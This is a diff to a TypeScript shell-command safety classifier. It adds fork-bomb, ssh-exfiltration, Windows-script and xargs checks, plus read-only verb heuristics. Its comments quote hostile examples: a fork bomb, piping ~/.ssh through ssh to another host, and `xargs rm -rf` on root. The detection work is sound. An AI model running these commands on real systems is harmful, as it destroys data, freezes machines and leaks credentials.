@@ -15,7 +15,7 @@ import type { BashParser } from "./shell-parser.js";
 import { riskRank, type RiskLevel } from "./types.js";
 import { unwrapCommand } from "./unwrap.js";
 import type { CompiledUserRule } from "./user-policy.js";
-import { tokeniseWindows } from "./windows-commands.js";
+import { judgeCmd, judgePowerShell, tokeniseWindows } from "./windows-commands.js";
 
 /** One reason with its level, before reasons are merged. */
 export interface Finding {
@@ -62,8 +62,13 @@ export class ScriptJudge {
       });
       return true;
     }
+    // Whole-script patterns look only outside quotes: `echo ':(){ :|:& };:'` merely mentions a fork bomb.
+    const unquoted = scriptRules.some((rule) => rule.trigger.test(text))
+      ? text.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, "''")
+      : "";
     for (const rule of scriptRules) {
-      if (rule.pattern.test(text)) findings.push({ rule: rule.id, level: rule.level, message: rule.message });
+      if (unquoted !== "" && rule.pattern.test(unquoted))
+        findings.push({ rule: rule.id, level: rule.level, message: rule.message });
     }
     let failClosed = false;
     let commands: SimpleCommand[];
@@ -156,6 +161,37 @@ export class ScriptJudge {
       }
       if (this.judgeNested(script, shell === "fish" ? "bash" : shell, nested, findings)) failClosed = true;
     }
+    for (const script of unwrapped.windowsScripts) {
+      const tokens = tokeniseWindows(script.text, script.dialect);
+      tokens.statements.forEach((statement, index) => {
+        findings.push(
+          ...(script.dialect === "cmd"
+            ? judgeCmd(statement)
+            : judgePowerShell(statement, tokens.statements[index - 1])),
+        );
+      });
+    }
+    if (unwrapped.remote && command.stdinFrom.length > 0) {
+      // `tar cz ~/.ssh | ssh host 'cat > x'`: what flows into ssh leaves the machine.
+      const sender: CommandContext = {
+        name: "ssh",
+        args: [],
+        redirects: [],
+        stdinFrom: command.stdinFrom,
+        stdinText: command.stdinText,
+        elevated,
+        remote: true,
+      };
+      for (const rule of RULE_INDEX.get("ssh") ?? [])
+        if (rule.matches?.(sender) === true) findings.push(findingOf(rule, sender));
+    }
+    if (unwrapped.forkBomb) {
+      findings.push({
+        rule: "fork-bomb",
+        level: "critical",
+        message: "A fork bomb: it copies itself until the machine runs out of processes and freezes.",
+      });
+    }
     if (unwrapped.reverseShell) {
       findings.push({
         rule: "reverse-shell",
@@ -171,7 +207,12 @@ export class ScriptJudge {
         message: `Runs inline ${unwrapped.opaqueCode} code.`,
       });
     }
-    const [first, ...args] = unwrapped.argv;
+    // `echo / | xargs rm -rf`, `xargs rm -rf <<< "/"`: when xargs's input is known, judge the words it would pass.
+    const xargsInput = unwrapped.wrappers.includes("xargs") ? command.stdinText?.trim() : undefined;
+    const argv = xargsInput
+      ? unwrapped.argv.flatMap((word) => (word === "{}" ? xargsInput.split(/\s+/) : [word]))
+      : unwrapped.argv;
+    const [first, ...args] = argv;
     if (first === undefined) return failClosed;
     const name = commandName(first);
     const context: CommandContext = {
@@ -238,13 +279,29 @@ function findingOf(rule: SafetyRule, context: CommandContext): Finding {
 }
 
 const DESTRUCTIVE_VERB =
-  /^(rm|del|rb|rmr|deleteall|(?:\w+[-_:])?(delete|destroy|purge|drop|remove|erase|wipe|truncate|flush|flushall|flushdb|prune|terminate|deregister|unregister|revoke|nuke|rdelete|deletefile|rmdir|purge)(?:[-_:]\w+)*)$/i;
+  /^(deleteall|rdelete|deletefile|(?:\w+[-_:])?(delete|destroy|purge|drop|erase|wipe|truncate|flush|flushall|flushdb|terminate|deregister|unregister|revoke|nuke)(?:[-_:]\w+)*)$/i;
+
+const READ_VERB =
+  /^(list|ls|describe|show|get|status|info|inspect|view|search|check|diagnostics|ping|version|whoami|top|stats|logs?|history|tree|diff|explain|validate|lint|(list|describe|get|show)[-_]\w+|--list|--describe|--version|--help|-l|-h)$/;
+
+/** An unknown tool used only to list or describe (`rabbitmqctl list_users`, `kafka-topics --describe`). */
+function readsOnly(args: readonly string[]): boolean {
+  let seen = 0;
+  for (const word of args) {
+    if (/^--(list|describe)$/.test(word))
+      return !args.some((other) => /^--(delete|create|alter|remove|add|reset|execute)/.test(other));
+    if (word.startsWith("-")) continue;
+    if (READ_VERB.test(word)) return true;
+    if (++seen >= 2) return false;
+  }
+  return false;
+}
 
 /** A subcommand such as `delete`, `secrets delete`, `delete_vhost`, `--delete` in an unknown tool. */
 function destructiveVerb(args: readonly string[]): string | undefined {
   let seen = 0;
   for (const word of args) {
-    if (/^--(delete|remove|purge|drop|destroy|force-delete)(-\w+)*$/.test(word)) return word;
+    if (/^--(delete|purge|drop|destroy|force-delete|wipe)(-\w+)*$/.test(word)) return word;
     if (word.startsWith("-")) continue;
     if (DESTRUCTIVE_VERB.test(word)) return word;
     if (++seen >= 3) return undefined;
@@ -275,12 +332,12 @@ function baseline(name: string, args: readonly string[], carriesScript: boolean)
   if (args.length > 0 && args.every((word) => /^(--version|-V|--help|-h|-help|version|help)$/.test(word))) {
     return { rule: "read-only", level: "safe", message: `${name} only prints its version or help.` };
   }
-  const subcommands = READ_ONLY_SUBCOMMANDS[name];
+  const subcommands = Object.hasOwn(READ_ONLY_SUBCOMMANDS, name) ? READ_ONLY_SUBCOMMANDS[name] : undefined;
   if (subcommands !== undefined) {
     const text = args
       .filter((word, index) => index > 0 || !word.startsWith("-") || /^-[LSnv]/.test(word))
       .join(" ");
-    if (subcommands.test(text))
+    if (subcommands.test(text) || subcommands.test(args.join(" ")))
       return { rule: "read-only", level: "safe", message: `${name} only reads here.` };
     return {
       rule: "state-change",
@@ -290,6 +347,8 @@ function baseline(name: string, args: readonly string[], carriesScript: boolean)
   }
   if (READ_ONLY_COMMANDS.has(name))
     return { rule: "read-only", level: "safe", message: `${name} only reads.` };
+  if (readsOnly(args))
+    return { rule: "read-only", level: "safe", message: `${name} only lists or describes here.` };
   const verb = destructiveVerb(args);
   if (verb !== undefined) {
     return {
